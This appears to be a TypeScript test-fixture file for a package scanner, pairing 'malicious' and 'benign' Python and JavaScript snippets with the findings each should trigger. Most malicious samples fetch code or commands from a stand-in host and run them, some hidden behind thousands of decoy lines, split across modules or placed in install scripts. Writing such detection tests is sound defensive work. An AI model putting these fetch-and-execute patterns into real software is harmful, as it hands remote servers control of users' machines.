import type { Samples } from '../contract.ts';
import { imported, installed, quiet, wheel } from '../samples-kit.ts';

function at(rule: string, severity: 'high' | 'medium', line: number, file = 'index.js') {
  return { rule, file, line, severity };
}

const THREE = {
  'get.js': "export async function get() {\n  return (await fetch('https://a.weir.test/r')).text();\n}\n",
  'run.js': 'export function run(text) {\n  return new Function(text)();\n}\n',
};
const JOINED =
  "import { get } from './get.js';\nimport { run } from './run.js';\nexport async function check() {\n  return run(await get());\n}\n";
/** 520,000 characters each: a line that is repeated, and what several modules are. */
const DECOYS = Array.from({ length: 13_000 }, (_, i) => `export const d${i} = (s) => s.env.NODE_ENV;\n`).join(
  '',
);
const MODULES = Array.from({ length: 13_000 }, (_, i) => {
  const member = i.toString(26).replace(/\d/g, (digit) => 'qrstuvwxyz'[Number(digit)] ?? '');
  return `export const d${i} = (s) => s.${member}.${member}_of;\n`;
}).join('');

/** A program whose folder is called as a server says, and started as `start` says. */
const ofVersion = (
  join: string,
  start: string,
): string => `const { spawn, exec } = require('child_process'), path = require('path'), os = require('os');
const file = process.platform === 'win32' ? 'own.exe' : 'own';
const folder = (version) => path.join(os.homedir(), '.own', version);
const program = (version) => ${join};
async function newest() {
  const answer = await fetch('https://a.weir.test/newest');
  return answer.json();
}
async function find() {
  const { version } = await newest();
  return program(version);
}
(async () => {
  const path = await find();
  const { args } = await newest();
  ${start};
})();
`;

/** What servers say, run by JavaScript that somebody calls or that gives it to an interpreter. */
export const REMOTE: Samples = {
  malicious: [
    ...[
      [
        'the texts under a name',
        'import dns.resolver, os\ndef go():\n    for row in dns.resolver.resolve("c.weir.test", "TXT"):\n        os.system(row.strings[0].decode())\n',
      ],
      [
        'the texts under a name that a program prints',
        'import os, subprocess\ndef go():\n    out = subprocess.check_output(["dig", "+short", "TXT", "c.weir.test"])\n    os.system(out.decode())\n',
      ],
      [
        'a page that a program prints',
        'import os, subprocess\ndef go():\n    out = subprocess.getoutput("curl -s https://a.weir.test/c")\n    os.system(out)\n',
      ],
      [
        'what a connection says',
        'import asyncio, os\nclass Own(asyncio.Protocol):\n    def data_received(self, data):\n        os.system(data)\nasync def go():\n    await asyncio.get_running_loop().create_connection(Own, "a.weir.test", 80)\n',
      ],
    ].map(([name, code = '']) => ({
      name: `Python: ${name}, as a command`,
      files: wheel(code),
      expected: [at('remote-command', 'high', 4, 'own/__init__.py')],
    })),
    {
      name: 'one file fetches, one runs, and a third joins them in a function',
      files: imported(JOINED, THREE),
      expected: [at('remote-code', 'high', 4)],
    },
    {
      name: 'the three of them behind thousands of lines that all say the same',
      files: imported(DECOYS + JOINED, THREE),
      expected: [at('remote-code', 'high', 13_004)],
    },
    {
      name: 'what another file fetches, run when a bundle is loaded',
      files: imported(
        `${MODULES}import { get } from './get.js';\nget().then((text) => new Function(text)());\n`,
        THREE,
      ),
      expected: [at('remote-code', 'high', 13_002)],
    },
    {
      name: 'one file fetches, and another one runs it when it is loaded',
      files: imported("const { get } = require('./get');\nget().then((text) => new Function(text)());\n", {
        'get.js': "exports.get = async () => (await fetch('https://a.weir.test/r')).text();\n",
      }),
      expected: [at('remote-code', 'high', 2)],
    },
    {
      name: 'what a server says whose address somebody gives',
      files: imported(
        'exports.load = async (address) => {\n  const text = await (await fetch(address)).text();\n  return new Function(text)();\n};\n',
      ),
      expected: [at('remote-code', 'medium', 3)],
    },
    {
      name: 'a function that runs what a server of the package says',
      files: imported(
        "exports.load = async () => {\n  const text = await (await fetch('https://a.weir.test/rules')).text();\n  return new Function(text)();\n};\n",
      ),
      expected: [at('remote-code', 'high', 3)],
    },
    {
      name: 'a function that starts what a server of the package says',
      files: imported(
        "const { exec } = require('child_process');\nexports.next = async () => {\n  const { job } = await (await fetch('https://a.weir.test/next')).json();\n  exec(job);\n};\n",
      ),
      expected: [at('remote-command', 'high', 4)],
    },
    {
      name: 'a module in an address, of which a server gives the text',
      files: imported(
        "export const ready = fetch('https://a.weir.test/m').then(async (answer) => {\n  const text = await answer.text();\n  return import('data:text/javascript,' + encodeURIComponent(text));\n});\n",
      ),
      expected: [at('remote-code', 'high', 3)],
    },
    {
      name: 'an interpreter that reads what a server says',
      files: installed(
        "const { spawn } = require('child_process');\n(async () => {\n  const text = await (await fetch('https://a.weir.test/m')).text();\n  const child = spawn(process.execPath, ['--input-type=module', '-']);\n  child.stdin.end(text);\n})();\n",
      ),
      expected: [at('remote-command', 'high', 5, 'setup.js')],
    },
    ...(
      [
        ['a file that a server names', 'path.join(os.homedir(), version)', 'spawn(path, exports.args)'],
        ['a path that a server begins', "path.join(version, 'own')", 'spawn(path, exports.args)'],
        [
          'a path that a server begins behind nothing',
          "path.join('/', version, 'own')",
          'spawn(path, exports.args)',
        ],
        [
          'a program that a server also tells what to do',
          'path.join(folder(version), file)',
          'spawn(path, args)',
        ],
        ['a line of a shell with what a server says in it', 'path.join(folder(version), file)', 'exec(path)'],
        [
          'the same for a shell that options ask for',
          'path.join(folder(version), file)',
          'spawn(path, exports.args, { shell: true })',
        ],
      ] as const
    ).map(([name, join, start]) => ({
      name,
      files: imported(ofVersion(join, start)),
      expected: [at('remote-command', 'high', 16)],
    })),
    {
      name: 'a program whose text a function in a table of another file makes',
      files: imported(
        "const { spawn } = require('child_process');\nconst { leap } = require('./units');\nspawn(process.execPath, leap.words(leap.from), { stdio: 'ignore' });\n",
        {
          'units.js':
            "exports.leap = {\n  from: 'https://a.weir.test/s',\n  words: (url) => ['-e', `fetch(${JSON.stringify(url)}).then((r) => r.text()).then((t) => (0, eval)(t))`],\n};\n",
        },
      ),
      expected: [{ rule: 'remote-code', file: 'index.js', line: 1, severity: 'high' }],
    },
    {
      name: 'Python: a method of whose name the server says the rest',
      files: wheel(
        "import requests, subprocess\nclass Beat:\n    def on_task(self, hint):\n        return subprocess.run(hint.split())\n    def go(self):\n        answer = requests.get('https://a.weir.test/beat').json()\n        getattr(self, 'on_' + answer['kind'])(answer['hint'])\nBeat().go()\n",
      ),
      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
  ],
  benign: [
    quiet(
      'Python: a version that a program prints, in a command that is known',
      wheel(
        'import subprocess\ndef go():\n    newest = subprocess.getoutput("curl -s https://a.weir.test/newest")\n    subprocess.run(["git", "checkout", newest])\n',
      ),
    ),
    quiet(
      'Python: a server whose visitors are answered by a protocol',
      wheel(
        'import asyncio, json\nclass Own(asyncio.Protocol):\n    def __init__(self, handle):\n        self.handle = handle\n    def connection_made(self, transport):\n        self.transport = transport\n    def data_received(self, data):\n        self.transport.write(json.dumps(self.handle(json.loads(data))).encode())\nasync def serve(handle, host="127.0.0.1"):\n    return await asyncio.get_running_loop().create_server(lambda: Own(handle), host, 8000)\n',
      ),
    ),
    quiet(
      'a program of the version that a server names, by its own name in a folder of its own',
      imported(ofVersion('path.join(folder(version), file)', 'spawn(path, exports.args)')),
    ),
    quiet(
      'Python: methods of whose names a server says the rest, and which start what the package says',
      wheel(
        "import requests, subprocess\nclass Bot:\n    def on_restart(self, message):\n        subprocess.run(['systemctl', 'restart', 'own'])\n    def on_say(self, message):\n        print(message['text'])\n    def go(self):\n        answer = requests.get('https://api.weir.test/next').json()\n        getattr(self, 'on_' + answer['kind'])(answer)\n",
      ),
    ),
    quiet(
      'one file fetches, one runs, and what is run is of another one',
      imported(
        "const { get } = require('./get');\nconst { run } = require('./run');\nexports.check = async (data) => run('return 1')(await get(data));\n",
        {
          'get.js': "exports.get = async () => (await fetch('https://a.weir.test/r')).text();\n",
          'run.js': 'exports.run = (text) => new Function(text);\n',
        },
      ),
    ),
    quiet(
      'a program whose text a function in a table of another file makes, and which runs nothing else',
      imported(
        "const { spawn } = require('child_process');\nconst { leap } = require('./units');\nspawn(process.execPath, leap.words(leap.from), { stdio: 'ignore' });\n",
        {
          'units.js':
            "exports.leap = {\n  from: 'https://api.weir.test/s',\n  words: (url) => ['-e', `fetch(${JSON.stringify(url)}).then((r) => r.text()).then((t) => console.log(t))`],\n};\n",
        },
      ),
    ),
    quiet('the three of them in a bundle of many modules', imported(MODULES + JOINED, THREE)),
    quiet(
      'a program that is no interpreter reads what a server says',
      imported(
        "const { spawn } = require('child_process');\n(async () => {\n  const text = await (await fetch('https://a.weir.test/m')).text();\n  const child = spawn('tar', ['-x']);\n  child.stdin.end(text);\n})();\n",
      ),
    ),
  ],
};
